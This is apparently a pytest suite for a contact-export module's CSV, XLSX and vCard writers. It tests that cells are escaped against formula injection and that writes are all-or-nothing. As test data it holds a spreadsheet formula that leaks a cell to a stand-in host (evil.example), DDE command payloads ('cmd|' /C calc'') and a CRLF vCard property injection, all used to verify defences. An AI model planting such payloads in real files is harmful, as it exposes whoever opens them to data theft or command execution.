"""The export writers: formula-safe CSV, typed XLSX, vCard 4.0, and all-or-nothing files."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from app.core.exporting import (
    CANONICAL_FIELDS,
    ExportRow,
    neutralize_cell,
    write_csv,
    write_vcard,
    write_xlsx,
)
from app.core.exporting.csv_writer import REPORT_EVERY
from app.core.exporting.vcard import contact_card, escape_text, fold_line
from app.core.ops import OperationCancelled
from tests.cancel_tokens import CountingToken

DESIGN_HEADER = (
    "first_name,last_name,email,phone,phone_e164,company,title,industry,employees,country,"
    "city,website,linkedin_url,stage,owner,source,tags"
)

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'

IVAN: ExportRow = {
    "first_name": "Иван",
    "last_name": "Петров",
    "email": "ivan.petrov@example.ru",
    "phone": "8 (495) 123-45-67",
    "phone_e164": "+74951234567",
    "company": "ООО «Ромашка», Москва",
    "title": "Директор по продажам",
    "industry": "Retail",
    "employees": 250,
    "country": "RU",
    "city": "Москва",
    "website": "https://romashka.example",
    "linkedin_url": "https://www.linkedin.com/in/ivan-petrov",
    "stage": "Qualified",
    "owner": "Anna",
    "source": "outbound",
    "tags": "vip, q3",
}
WANG: ExportRow = {
    "first_name": "伟",
    "last_name": "王",
    "email": "wang.wei@example.cn",
    "phone": "+86 10 1234 5678",
    "phone_e164": "+861012345678",
    "company": "北京示例科技有限公司",
    "title": HOSTILE,
    "employees": None,
    "city": "北京",
    "tags": "",
}


def rows_of(n: int) -> Iterator[ExportRow]:
    for i in range(n):
        yield {"first_name": f"P{i}", "email": f"p{i}@example.com", "employees": i}


def read_csv(path: Path, encoding: str = "utf-8-sig") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as fh:
        return list(csv.reader(fh))


# --- neutralisation ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("=1+1", "'=1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-1+1", "'-1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),  # full-width equals sign
        # A raw phone with spaces or dashes is arithmetic to a spreadsheet: neutralised.
        ("+7 495 123-45-67", "'+7 495 123-45-67"),
        ("+1-555-0100", "'+1-555-0100"),
        # An exact E.164 number is a plain numeric literal: left readable.
        ("+4930123456", "+4930123456"),
        ("+861012345678", "+861012345678"),
        ("+123456789012345", "+123456789012345"),  # 15 digits, the E.164 maximum
        # Not E.164 (leading 0, too long, a letter): neutralised.
        ("+0123456", "'+0123456"),
        ("+1234567890123456", "'+1234567890123456"),
        ("+49301234x", "'+49301234x"),
        # Harmless cells stay exactly as they are.
        ("Ivan", "Ivan"),
        ("ivan@example.com", "ivan@example.com"),
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        ("'quoted", "'quoted"),
        ("", ""),
        (None, ""),
        (250, "250"),
        (-5, "'-5"),
        (True, "true"),
        (False, "false"),
    ],
)
def test_neutralize_cell(value: str | int | bool | None, expected: str) -> None:
    assert neutralize_cell(value) == expected


# --- CSV --------------------------------------------------------------------------------


def test_canonical_fields_match_design() -> None:
    assert ",".join(CANONICAL_FIELDS) == DESIGN_HEADER


def test_csv_header_is_exactly_canonical(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    assert write_csv(out, []) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM, for Excel on Windows
    assert raw[3:] == DESIGN_HEADER.encode() + b"\r\n"


def test_csv_extra_fields_follow_the_canonical_ones(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    write_csv(
        out, [{"email": "a@example.com", "do_not_contact": True}], extra_fields=("do_not_contact",)
    )
    header, row = read_csv(out)
    assert header == [*CANONICAL_FIELDS, "do_not_contact"]
    assert row[header.index("do_not_contact")] == "true"


def test_csv_extra_field_cannot_repeat_a_canonical_one(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="repeat"):
        write_csv(tmp_path / "out.csv", [], extra_fields=("email",))
    assert list(tmp_path.iterdir()) == []


def test_csv_round_trip_keeps_cyrillic_chinese_and_quotes(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    tricky: ExportRow = {
        "first_name": 'Mary "M." Jane',
        "title": "Line one\nline two",
        "company": "A, B; C",
    }
    assert write_csv(out, [IVAN, WANG, tricky]) == 3
    header, ivan, wang, mary = read_csv(out)
    assert tuple(header) == CANONICAL_FIELDS
    expected_ivan = [neutralize_cell(IVAN.get(f)) for f in CANONICAL_FIELDS]
    assert ivan == expected_ivan
    assert ivan[header.index("company")] == "ООО «Ромашка», Москва"
    assert ivan[header.index("phone_e164")] == "+74951234567"  # E.164 readable
    assert ivan[header.index("employees")] == "250"
    assert wang[header.index("company")] == "北京示例科技有限公司"
    assert wang[header.index("title")] == "'" + HOSTILE
    assert wang[header.index("phone")] == "'+86 10 1234 5678"
    assert wang[header.index("employees")] == ""
    assert mary[header.index("first_name")] == 'Mary "M." Jane'
    assert mary[header.index("title")] == "Line one\nline two"
    assert mary[header.index("company")] == "A, B; C"


def test_no_cell_of_a_safe_csv_starts_a_formula(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    hostile = {f: "=cmd|' /C calc'!A0" for f in CANONICAL_FIELDS}
    write_csv(out, [hostile, {f: "@SUM(1)" for f in CANONICAL_FIELDS}])
    for row in read_csv(out)[1:]:
        assert all(cell.startswith("'") for cell in row)


def test_raw_csv_has_no_bom_and_no_neutralisation(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    write_csv(out, [WANG], raw=True)
    data = out.read_bytes()
    assert data.startswith(b"first_name,")
    header, wang = read_csv(out, encoding="utf-8")
    assert wang[header.index("title")] == HOSTILE
    assert wang[header.index("phone")] == "+86 10 1234 5678"


def test_csv_replaces_an_older_file_only_when_complete(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_text("old export")
    write_csv(out, [IVAN])
    assert read_csv(out)[1][0] == "Иван"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_csv_reports_progress(tmp_path: Path) -> None:
    seen: list[int] = []
    n = REPORT_EVERY * 2 + 5
    assert write_csv(tmp_path / "out.csv", rows_of(n), progress=lambda d, _t: seen.append(d)) == n
    assert seen == [REPORT_EVERY, REPORT_EVERY * 2, n]


# --- all or nothing ---------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".vcf"])
def test_cancel_leaves_no_file_and_keeps_the_old_one(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"out{suffix}"
    out.write_bytes(b"previous export")
    cancel = CountingToken(at=1)
    writer = {".csv": write_csv, ".xlsx": write_xlsx, ".vcf": write_vcard}[suffix]
    with pytest.raises(OperationCancelled):
        writer(out, rows_of(REPORT_EVERY * 3), cancel=cancel)
    assert cancel.checks == 1  # stopped at the first check, not at the end
    assert out.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir()] == [out.name]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".vcf"])
def test_failure_half_way_leaves_no_file(tmp_path: Path, suffix: str) -> None:
    def broken_rows() -> Iterator[ExportRow]:
        yield IVAN
        raise RuntimeError("database went away")

    out = tmp_path / f"out{suffix}"
    writer = {".csv": write_csv, ".xlsx": write_xlsx, ".vcf": write_vcard}[suffix]
    with pytest.raises(RuntimeError, match="went away"):
        writer(out, broken_rows())
    assert list(tmp_path.iterdir()) == []


def test_missing_folder_is_an_os_error(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        write_csv(tmp_path / "nowhere" / "out.csv", [IVAN])


# --- XLSX -------------------------------------------------------------------------------


def test_xlsx_cells_are_strings_or_numbers_never_formulas(tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "out.xlsx"
    hostile = {f: HOSTILE for f in CANONICAL_FIELDS} | {"employees": 12}
    control = {"first_name": "Bell\x07char", "last_name": "_x0041_literal"}
    assert write_xlsx(out, [IVAN, WANG, hostile, control], extra_fields=("do_not_contact",)) == 4
    book = openpyxl.load_workbook(out)
    sheet = book["Contacts"]
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == [*CANONICAL_FIELDS, "do_not_contact"]
    assert all(c.font.b for c in rows[0])
    assert sheet.freeze_panes == "A2"
    for row in rows:
        for cell in row:
            assert cell.data_type in {"s", "n"}, (cell.coordinate, cell.value)
    ivan = {h: c.value for h, c in zip(CANONICAL_FIELDS, rows[1], strict=False)}
    assert ivan["employees"] == 250
    assert ivan["company"] == "ООО «Ромашка», Москва"
    assert ivan["phone_e164"] == "+74951234567"  # text, so the "+" shows
    wang = {h: c.value for h, c in zip(CANONICAL_FIELDS, rows[2], strict=False)}
    assert wang["title"] == HOSTILE
    assert wang["company"] == "北京示例科技有限公司"
    assert wang["employees"] is None
    assert all(c.value == HOSTILE for c in rows[3] if c.column_letter not in {"I", "R"})
    # A control character cannot sit in XML: it is stored as OOXML's _xHHHH_ escape (and a
    # literal "_x0041_" has its underscore escaped), which Excel decodes and openpyxl
    # hands back as stored.
    assert rows[4][0].value == "Bell_x0007_char"
    assert rows[4][1].value == "_x005F_x0041_literal"
    assert sheet.column_dimensions["C"].width > sheet.column_dimensions["I"].width


def test_xlsx_continues_on_a_new_sheet_when_one_is_full(tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "out.xlsx"
    assert write_xlsx(out, rows_of(5), max_rows_per_sheet=3) == 5
    book = openpyxl.load_workbook(out, read_only=True)
    assert book.sheetnames == ["Contacts", "Contacts (2)", "Contacts (3)"]
    names = []
    for sheet in book.worksheets:
        rows = list(sheet.iter_rows(values_only=True))
        assert rows[0] == CANONICAL_FIELDS
        names += [r[0] for r in rows[1:]]
    assert names == ["P0", "P1", "P2", "P3", "P4"]


def test_empty_xlsx_has_the_header(tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "out.xlsx"
    assert write_xlsx(out, []) == 0
    sheet = openpyxl.load_workbook(out, read_only=True).active
    assert sheet is not None
    assert list(sheet.iter_rows(values_only=True)) == [CANONICAL_FIELDS]


# --- vCard ------------------------------------------------------------------------------


def unfold(text: str) -> list[str]:
    """Content lines of a vCard text, unfolded (RFC 6350 section 3.2)."""
    assert "\n" not in text.replace("\r\n", "")  # only CRLF line ends
    return text.replace("\r\n ", "").split("\r\n")[:-1]


def test_escape_text() -> None:
    assert escape_text(r"a\b,c;d") == r"a\\b\,c\;d"
    assert escape_text("one\r\ntwo\nthree\rfour") == r"one\ntwo\nthree\nfour"
    assert escape_text("bell\x07 tab\t") == "bell tab\t"


def test_fold_line_keeps_utf8_sequences_whole() -> None:
    long_line = "FN:" + "王" * 60 + "x" * 3 + "😀" * 10
    folded = fold_line(long_line)
    physical = folded.split("\r\n")
    assert len(physical) > 1
    for i, line in enumerate(physical):
        encoded = line.encode("utf-8")
        assert len(encoded) <= 75
        if i:
            assert line.startswith(" ")
    assert folded.replace("\r\n ", "") == long_line
    assert fold_line("FN:short") == "FN:short"
    exactly = "FN:" + "x" * 72
    assert fold_line(exactly) == exactly


def test_vcard_text_of_one_contact(tmp_path: Path) -> None:
    out = tmp_path / "out.vcf"
    long_name = "欧阳" * 30
    row = dict(IVAN) | {
        "last_name": "Петров; Jr, \\II",
        "company": "Acme; Widgets, Ltd",
        "full_name": long_name,
    }
    assert write_vcard(out, [row]) == 1
    data = out.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8")
    for physical in text.split("\r\n"):
        assert len(physical.encode("utf-8")) <= 75
    lines = unfold(text)
    assert lines[:2] == ["BEGIN:VCARD", "VERSION:4.0"]
    assert lines[-1] == "END:VCARD"
    assert f"FN:{long_name}" in lines
    assert "N:Петров\\; Jr\\, \\\\II;Иван;;;" in lines
    assert "ORG:Acme\\; Widgets\\, Ltd" in lines
    assert "EMAIL;TYPE=work:ivan.petrov@example.ru" in lines
    assert "TEL;VALUE=uri;TYPE=work:tel:+74951234567" in lines
    assert "ADR;TYPE=work:;;;Москва;;;RU" in lines
    assert "URL;TYPE=work:https://romashka.example" in lines
    assert "X-SOCIALPROFILE;TYPE=linkedin:https://www.linkedin.com/in/ivan-petrov" in lines
    assert "CATEGORIES:vip,q3" in lines


def test_vcard_line_break_in_a_value_cannot_add_a_property() -> None:
    lines = unfold(
        contact_card(
            {
                "first_name": "Eve",
                "title": "CEO\r\nEMAIL:x@evil.example",
                "website": "https://a.example\r\nTEL:1",
            }
        )
    )
    assert "TITLE:CEO\\nEMAIL:x@evil.example" in lines
    assert "URL;TYPE=work:https://a.example" + "TEL:1" in lines
    assert not any(line.startswith(("EMAIL", "TEL")) for line in lines)


def test_vcard_raw_phone_and_name_fallbacks() -> None:
    card = unfold(contact_card({"email": "info@example.com", "phone": "8 (495) 123-45-67"}))
    assert "FN:info@example.com" in card
    assert "TEL;VALUE=text;TYPE=work:8 (495) 123-45-67" in card
    assert not any(line.startswith("N:") for line in card)
    assert "FN:?" in unfold(contact_card({}))


def test_vcard_parses_back_with_vobject(tmp_path: Path) -> None:
    import vobject

    out = tmp_path / "out.vcf"
    long_name = "司马" * 40
    wang = dict(WANG) | {"full_name": long_name, "company": "北京; 示例, 公司"}
    write_vcard(out, [IVAN, wang])
    cards = list(vobject.readComponents(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(cards) == 2
    ivan, parsed_wang = cards
    assert ivan.version.value == "4.0"
    assert ivan.fn.value == "Иван Петров"
    assert ivan.n.value.family == "Петров"
    assert ivan.n.value.given == "Иван"
    assert ivan.org.value == ["ООО «Ромашка», Москва"]
    assert ivan.email.value == "ivan.petrov@example.ru"
    assert ivan.tel.value == "tel:+74951234567"
    assert ivan.categories.value == ["vip", "q3"]
    assert parsed_wang.fn.value == long_name
    assert parsed_wang.org.value == ["北京; 示例, 公司"]
    assert parsed_wang.title.value == HOSTILE
